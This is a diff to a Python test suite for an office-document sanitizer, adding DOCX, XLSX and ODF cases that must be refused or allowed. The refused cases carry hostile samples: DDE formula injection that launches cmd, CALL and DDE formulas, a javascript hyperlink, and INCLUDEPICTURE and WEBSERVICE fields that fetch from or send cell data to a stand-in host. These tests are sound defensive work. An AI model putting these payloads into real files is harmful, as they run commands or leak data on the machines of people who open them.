@@ -40,6 +40,18 @@ def sheet_with_chart() -> bytes:
     return out.getvalue()
 
 
+def sheet_with_formula(formula: str) -> bytes:
+    """A sheet with a formula, as XML writes it."""
+    parts = parts_of(sheet_with_chart())
+    sheet = "xl/worksheets/sheet1.xml"
+    parts[sheet] = parts[sheet].replace(b"<v>3</v>", f"<f>{formula}</f><v>3</v>".encode())
+    out = BytesIO()
+    with zipfile.ZipFile(out, "w") as file:
+        for name, part in parts.items():
+            file.writestr(name, part)
+    return out.getvalue()
+
+
 def relation(kind: str, target: str, *, external: bool = False) -> str:
     mode = ' TargetMode="External"' if external else ""
     return RELATIONS % f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
@@ -90,6 +102,12 @@ def test_the_same_file_always_becomes_the_same_bytes_whatever_hangs_on_it() -> N
             body="<w:p><w:r><w:instrText>DDEAU</w:instrText><w:instrText>TO cmd</w:instrText></w:r></w:p>"
         ),
         text_document(body='<w:fldSimple w:instr="DDE cmd"/>'),
+        text_document(body='<w:fldSimple w:instr="MACROBUTTON Mau bấm đây"/>'),
+        sheet_with_formula("cmd|'/c calc'!A1"),
+        sheet_with_formula("1+CALL(&quot;a&quot;,&quot;b&quot;)"),
+        open_document(
+            body='<table:table-cell xmlns:table="urn:t" table:formula="of:=DDE(&quot;soffice&quot;;A1)"/>'
+        ),
         text_document(body="<w:control/>"),
         text_document(body="<w:altChunk/>"),
         open_document({"Basic/Standard/Module1.xml": "<x/>"}),
@@ -121,6 +139,10 @@ def test_what_can_run_is_refused(data: bytes) -> None:
         ),
         open_document(body='<draw:image xlink:href="http://a.example/x.png"/>'),
         open_document(body='<draw:image xlink:href="../x.png"/>'),
+        text_document(body="<w:fldSimple w:instr='INCLUDEPICTURE &quot;http://a.example/x&quot; \\d'/>"),
+        text_document(body="<w:fldSimple w:instr='HYPERLINK &quot;javascript:alert(1)&quot;'/>"),
+        text_document(body="<w:r><w:instrText>INCLUDETEXT</w:instrText></w:r>"),
+        sheet_with_formula("WEBSERVICE(&quot;http://a.example/&quot;&amp;A2)"),
     ],
 )
 def test_what_is_fetched_from_elsewhere_is_refused(data: bytes) -> None:
@@ -207,3 +229,25 @@ def test_properties_are_known_by_what_they_are_and_not_by_their_name() -> None:
         }
     )
     assert b"Nguyen" not in parts_of(office_cleaner.make(data).parts["document"])["who.xml"]
+
+
+@pytest.mark.parametrize(
+    "instr",
+    ["HYPERLINK &quot;https://example.org/link/include&quot;", "HYPERLINK \\l &quot;Muc_1&quot;", "PAGE"],
+)
+def test_fields_that_lead_readers_or_count_may_stay(instr: str) -> None:
+    data = text_document(body=f"<w:fldSimple w:instr='{instr}'/>")
+
+    assert office_cleaner.make(data).facts["format"] == "docx"
+
+
+def test_formulas_that_reckon_may_stay() -> None:
+    data = sheet_with_formula("IF(A1&gt;2,SUM(A1:A9),&quot;WEBSERVICE(ít|nhiều)&quot;)")
+
+    assert office_cleaner.make(data).facts["format"] == "xlsx"
+
+
+def test_elements_within_elements_have_an_end() -> None:
+    deep = "<w:p>" * 1000 + "</w:p>" * 1000
+
+    assert refused(text_document(body=deep)) == "upload_too_costly"
